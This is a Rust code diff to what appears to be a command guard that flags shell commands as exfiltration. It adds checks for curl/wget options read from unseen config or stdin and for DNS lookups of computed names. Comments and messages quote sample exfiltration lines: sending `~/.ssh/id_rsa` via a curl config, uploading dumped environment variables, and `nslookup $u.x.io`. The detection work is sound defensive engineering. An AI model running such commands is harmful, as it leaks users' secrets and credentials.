@@ -76,6 +76,9 @@ pub(super) fn judge(call: &Call) -> Option<Hit> {
     if !sent && !resolver {
         return None;
     }
+    if matches!(name, "curl" | "wget") && reads_unseen_options(call, name) {
+        return Some(Hit::ask("exfiltration.unseen-options", UNSEEN_OPTIONS));
+    }
     let piped = super::credentials::carries_environment(call.analysis, command);
     let substituted = call.args().iter().any(|arg| arg.dynamic && substitutes_environment(&arg.raw));
     // `env > /tmp/e; curl -T /tmp/e …`: a file the line filled with the environment.
@@ -83,13 +86,61 @@ pub(super) fn judge(call: &Call) -> Option<Hit> {
     if piped || substituted || uploaded() {
         return Some(Hit::new("exfiltration.environment", MESSAGE));
     }
-    if call.args().iter().any(|a| a.dynamic) && builds_destination(name, call.args()) {
+    if call.args().iter().any(|a| a.dynamic)
+        && (builds_destination(name, call.args()) || looks_up_computed(name, call.args()))
+    {
         return Some(Hit::ask("exfiltration.computed-destination", COMPUTED_DESTINATION));
     }
     if sends_clipboard(call) {
         return Some(Hit::ask("exfiltration.clipboard", CLIPBOARD));
     }
     sends_history(call).then(|| Hit::ask("exfiltration.git-history", GIT_HISTORY))
+}
+
+const UNSEEN_OPTIONS: &str = "This gives the client options or URLs to read from text the guard cannot see (a `<(…)` or a computed file, a command's output on standard input, a wgetrc): they can send any file (`data = @~/.ssh/id_rsa`, `upload-file`, `post_file`) anywhere. Write the options on the line, or ask the user.";
+
+/// Options or URLs a network client reads from text the line does not fix: curl's `-K`/`--config`
+/// or wget's `-i`/`--input-file` computed (`-K <(…)`, `-K "$CFG"`) or standard input that is not a
+/// here-document, a file or a printer's output (`cmd | wget -i -`), and any wget `--config`
+/// (a wgetrc, which the file rules do not read). A curl configuration the guard can read is
+/// judged by the file rules (`guard::file_access`); a missing project file fails to load.
+#[inline(never)] // off an allowed call's path (ARCHITECTURE.md, "Start-up")
+fn reads_unseen_options(call: &Call, name: &str) -> bool {
+    let args = call.args();
+    let (short, long): (char, &[&str]) =
+        if name == "curl" { ('K', &["--config"]) } else { ('i', &["--input-file", "--config"]) };
+    // A file on standard input, or one `cat` pipes in, is read as the file it is.
+    let catted = |from: usize| {
+        call.analysis.commands.get(from).is_some_and(|cat| {
+            cat.name() == Some("cat") && !cat.args().is_empty() && cat.args().iter().all(|a| !a.dynamic)
+        })
+    };
+    let unseen_stdin = || match call.command.stdin {
+        Stdin::File(_) => false,
+        Stdin::Pipe { from: Some(from) } if catted(from) => false,
+        _ => call.analysis.stdin_text(call.index).is_none(),
+    };
+    args.iter().enumerate().any(|(i, arg)| {
+        let text = arg.text.as_str();
+        let cluster = text.starts_with('-') && !text.starts_with("--") && text.len() > 1;
+        // The option and its file: `-K F`, `-sK F`, `--config F`, `--config=F`, `-KF`.
+        let (option, file, dynamic) = if long.contains(&text) || cluster && text.ends_with(short) {
+            match args.get(i + 1) {
+                Some(value) => (text, value.text.as_str(), value.dynamic),
+                None => return false,
+            }
+        } else if let Some((option, file)) = text.split_once('=').filter(|(option, _)| long.contains(option))
+        {
+            (option, file, arg.dynamic)
+        } else if cluster && text[1..].starts_with(short) {
+            (text, &text[2..], arg.dynamic)
+        } else {
+            return false;
+        };
+        name == "wget" && option == "--config"
+            || dynamic
+            || matches!(file, "-" | "/dev/stdin" | "/dev/fd/0") && unseen_stdin()
+    })
 }
 
 const CLIPBOARD: &str = "This sends what is on the clipboard, where the user's copied passwords and tokens often are, to another machine. Send a file you can read first, or ask the user.";
@@ -397,6 +448,18 @@ fn builds_destination(name: &str, args: &[Word]) -> bool {
             || name == "curl" && arg.raw.starts_with("--url=");
         arg.dynamic && destination && substitutes(&arg.raw, IDENTIFYING)
     })
+}
+
+/// A DNS lookup of a name the line computes (`u=$(whoami); nslookup $u.x.io`): the query
+/// itself carries the text to the name server of the domain, whatever the variable held.
+/// A value of an option (`-t $TYPE`, `-p $PORT`) names no host.
+fn looks_up_computed(name: &str, args: &[Word]) -> bool {
+    const VALUED: &[&str] = &["-t", "-c", "-p", "-b", "-f", "-k", "-y", "-W", "-N", "-R", "-m"];
+    matches!(name, "nslookup" | "dig" | "host" | "drill")
+        && args.iter().enumerate().any(|(i, arg)| {
+            let value_of_option = i > 0 && VALUED.contains(&args[i - 1].text.as_str());
+            arg.dynamic && !value_of_option && !arg.text.starts_with(['-', '+'])
+        })
 }
 
 /// Whether `raw` holds a `$(…)` or backquoted substitution whose first word is one of `programs`.
